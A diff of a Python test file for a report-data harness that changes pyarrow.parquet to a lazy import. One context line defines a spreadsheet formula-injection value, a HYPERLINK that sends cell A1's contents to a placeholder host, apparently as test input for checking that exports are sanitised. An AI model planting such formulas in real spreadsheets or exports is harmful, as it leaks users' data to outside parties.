@@ -11,7 +11,6 @@ import zipfile
 from pathlib import Path
 from typing import Any
 
-import pyarrow.parquet as pq
 import pytest
 
 from harness.cli import main
@@ -21,7 +20,10 @@ from harness.reports.data import write_bundle
 from harness.reports.data.columns import TABLES
 from harness.reports.data.environment import packages
 from harness.reports.data.tidy import without_places
+from tests.support.lazy_modules import LazyModule
 from tests.support.records import SMALL, failed, finished, metadata, trials, write_file
+
+pq = LazyModule("pyarrow.parquet")
 
 TRIALS = list(trials(SMALL))
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
